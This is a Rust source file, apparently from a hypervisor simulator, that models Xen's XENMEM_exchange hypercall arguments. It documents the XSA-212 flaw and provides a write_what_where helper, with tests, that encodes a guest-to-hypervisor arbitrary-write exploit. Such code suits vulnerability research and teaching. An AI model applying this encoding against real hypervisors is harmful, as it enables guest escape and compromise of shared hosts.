//! `XENMEM_exchange` argument structure.

use hvsim_mem::VirtAddr;

/// Arguments to the `memory_exchange` hypercall.
///
/// The guest asks to trade the frames behind `in_gmfns` for fresh frames;
/// the hypervisor reports results by **copying data to the guest-supplied
/// handle** `out_extent_start`, offset by `nr_exchanged` entries:
///
/// ```text
/// target = out_extent_start + 8 * (nr_exchanged + i)
/// ```
///
/// XSA-212 is an insufficient check on that handle: a malicious guest
/// encodes an arbitrary *hypervisor* linear address in
/// `out_extent_start`/`nr_exchanged` and supplies an invalid `in_gmfn`
/// whose raw value is the 8 bytes it wants written, turning the error
/// write-back path into a hypervisor-privileged write-what-where.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ExchangeArgs {
    /// Guest pseudo-physical frame numbers to exchange. On the error
    /// path the raw value is written back verbatim — attacker-controlled
    /// data in the XSA-212 abuse.
    pub in_gmfns: Vec<u64>,
    /// Guest handle the result extents are copied to.
    pub out_extent_start: VirtAddr,
    /// Number of extents already exchanged (offsets the output writes).
    pub nr_exchanged: u64,
}

impl ExchangeArgs {
    /// A well-formed exchange of `gmfns` reporting to `out`.
    pub fn new(in_gmfns: Vec<u64>, out_extent_start: VirtAddr) -> Self {
        Self {
            in_gmfns,
            out_extent_start,
            nr_exchanged: 0,
        }
    }

    /// The guest handle slot the `i`-th result is written to.
    pub fn out_slot(&self, i: usize) -> VirtAddr {
        self.out_extent_start
            .offset(8 * (self.nr_exchanged + i as u64))
    }

    /// Builds the argument encoding used by the XSA-212 exploits: choose
    /// `out_extent_start` and `nr_exchanged` such that slot 0 lands on
    /// `target` (the paper's
    /// `exch.out.extent_start + 8 * exch.nr_exchanged` expression), and
    /// pass `value` as the single invalid input gmfn so the error path
    /// writes it there.
    pub fn write_what_where(target: VirtAddr, value: u64, nr_exchanged: u64) -> Self {
        Self {
            in_gmfns: vec![value],
            out_extent_start: target.offset((8 * nr_exchanged).wrapping_neg()),
            nr_exchanged,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn out_slot_offsets_by_nr_exchanged() {
        let args = ExchangeArgs {
            in_gmfns: vec![1, 2],
            out_extent_start: VirtAddr::new(0x1000),
            nr_exchanged: 3,
        };
        assert_eq!(args.out_slot(0), VirtAddr::new(0x1000 + 24));
        assert_eq!(args.out_slot(1), VirtAddr::new(0x1000 + 32));
    }

    #[test]
    fn write_what_where_encoding_lands_on_target() {
        let target = VirtAddr::new(0xffff_8300_0000_0e00);
        let args = ExchangeArgs::write_what_where(target, 0xdead_beef, 7);
        assert_eq!(args.out_slot(0), target);
        assert_eq!(args.in_gmfns, vec![0xdead_beef]);
    }
}
